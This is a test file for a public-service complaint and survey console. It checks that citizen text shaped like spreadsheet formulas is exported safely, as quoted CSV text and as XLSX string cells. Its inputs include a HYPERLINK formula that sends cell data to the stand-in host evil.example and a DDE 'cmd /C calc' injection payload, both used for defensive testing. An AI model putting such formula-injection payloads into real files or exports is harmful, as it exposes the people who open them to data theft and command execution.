import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import type { FetchRelatedRecords, RaRecord } from 'react-admin';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, type Translate } from '../../admin/src/common/export.js';
import { COMPLAINT_CSV_COLUMNS } from '../../admin/src/resources/complaints/complaint-export.js';
import { SURVEY_RESPONSE_CSV_COLUMNS } from '../../admin/src/resources/surveyResponses/survey-response-export.js';
import { addDays } from '../../api/src/dates.js';
import { fromGlobalId } from '../../api/src/graphql/ids.js';
import { Agency } from '../../api/src/modules/organization/agency.entity.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { runner } from '../helpers/gql-run.js';
import { setUpReportingLine, type ReportingLine } from '../helpers/reporting-line.js';

/**
 * Issue 20, finding 4: a citizen's text that a spreadsheet would run as a formula,
 * filed through the public mutations, leaves the console's CSV export as text and
 * the API's XLSX export as a string cell.
 */
let app: TestApp;
let line: ReportingLine;
let run: ReturnType<typeof runner>['run'];

const SUBJECT = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")';
const COMMENT = "@SUM(1+1)*cmd|' /C calc'!A0";

const anonymous = <T = Record<string, unknown>>(query: string, variables: Record<string, unknown>, address: string) =>
  app.gql<T>(query, variables, { headers: { 'x-forwarded-for': address } });

/** Column titles stay keys: the test reads cells by key. */
const translate: Translate = (key, options) => (options?._ as string | undefined) ?? key;

/** react-admin's fetchRelatedRecords, answered by the API (a reference column's names). */
const fetchRelated = (async (records: RaRecord[], field: string) => {
  const ids = [...new Set(records.map((record) => record[field]).filter(Boolean))];
  const out: Record<string, RaRecord> = {};
  for (const id of ids) {
    const { node } = await run<{ node: RaRecord | null }>(
      `query ($id: ID!) { node(id: $id) { id ... on OrgUnit { name } ... on Survey { title } ... on Employee { fullName } } }`,
      { id },
    );
    if (node) out[String(id)] = node;
  }
  return out;
}) as FetchRelatedRecords;

/** The cells of a column, read back as a spreadsheet's CSV import would split them. */
const column = (csv: string, title: string) => {
  const [header, ...rows] = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
  const index = header!.indexOf(title);
  expect(index, `${title} in ${header!.join(',')}`).toBeGreaterThanOrEqual(0);
  return rows.map((row) => row[index]);
};

beforeAll(async () => {
  app = await startTestApp();
  line = await setUpReportingLine(app);
  ({ run } = runner(app, () => line.tokens.hr!));
});
afterAll(() => app?.close());

describe('formula-like citizen text in exports', () => {
  it('a complaint subject starting with = reaches the console’s CSV as text, and the XLSX as a string cell', async () => {
    const agency = await app.orm.em.fork().findOneOrFail(Agency, { id: fromGlobalId(line.agencyId, 'Agency', 'id') });
    const filed = await anonymous(
      `mutation ($input: SubmitComplaintInput!) { submitComplaint(input: $input) { trackingCode } }`,
      {
        input: {
          agencyCode: agency.code,
          category: 'PENGADUAN',
          subject: SUBJECT,
          description: 'Tautan di atas dibuka oleh petugas yang mengekspor daftar pengaduan.',
        },
      },
      '203.0.113.40',
    );
    expect(filed.errors).toBeUndefined();

    // The list as the console loads it, then its exporter's CSV.
    const { complaints } = await run<{ complaints: { nodes: RaRecord[] } }>(
      `{ complaints(first: 50) { nodes { id trackingCode receivedOn subject category unitId status dueDate overdue } } }`,
    );
    const csv = await csvText('complaints', complaints.nodes, COMPLAINT_CSV_COLUMNS, translate, fetchRelated);
    expect(column(csv, 'resources.complaints.fields.subject')).toContain(`'${SUBJECT}`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Klik di sini"")"`);
    // No cell of the file starts a formula.
    for (const row of Papa.parse<string[]>(csv, { skipEmptyLines: true }).data) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    // The API's workbook of the same list: the subject is a string cell, not a formula.
    const response = await fetch(`${app.url}/exports/complaints.xlsx`, { headers: { authorization: `Bearer ${line.tokens.hr}` } });
    expect(response.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const subject = cells.find((cell) => cell.value === SUBJECT);
    expect(subject, 'the subject, word for word').toBeDefined();
    expect(subject!.type).toBe(ExcelJS.ValueType.String);
    expect(subject!.formula).toBeUndefined();
    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('a survey comment starting with @ reaches the console’s CSV as text', async () => {
    const { orgUnits } = await run<{ orgUnits: { nodes: { id: string }[] } }>(
      `{ orgUnits(filter: { code: { eq: "PKM" } }) { nodes { id } } }`,
    );
    const created = await run<{ createSurvey: { survey: { id: string; version: number } } }>(
      `mutation ($input: CreateSurveyInput!) { createSurvey(input: $input) { survey { id version } } }`,
      {
        input: {
          unitId: orgUnits.nodes[0]!.id,
          title: 'SKM Puskesmas',
          startDate: addDays(line.today, -5),
          endDate: addDays(line.today, 5),
        },
      },
    );
    const survey = created.createSurvey.survey;
    await run(`mutation ($input: SurveyStepInput!) { openSurvey(input: $input) { survey { id } } }`, {
      input: { id: survey.id, version: survey.version },
    });
    const address = '198.51.100.40';
    const form = await anonymous<{ surveyForm: { token: string } }>(
      `query ($id: ID!) { surveyForm(id: $id) { token } }`,
      { id: survey.id },
      address,
    );
    const answers = Array.from({ length: 9 }, (_, i) => ({ element: `U${i + 1}`, value: 3 }));
    const submitted = await anonymous(
      `mutation ($input: SubmitSurveyResponseInput!) { submitSurveyResponse(input: $input) { message } }`,
      { input: { surveyId: survey.id, token: form.data!.surveyForm.token, answers, comment: COMMENT } },
      address,
    );
    expect(submitted.errors).toBeUndefined();

    const { surveyResponses } = await run<{ surveyResponses: { nodes: RaRecord[] } }>(
      `query ($id: ID!) { surveyResponses(filter: { surveyId: { eq: $id } }) { nodes { id submittedOn surveyId answers gender ageBand education occupation servedById comment } } }`,
      { id: survey.id },
    );
    const csv = await csvText('surveyResponses', surveyResponses.nodes, SURVEY_RESPONSE_CSV_COLUMNS, translate, fetchRelated);
    expect(column(csv, 'resources.surveyResponses.fields.comment')).toEqual([`'${COMMENT}`]);
  });
});
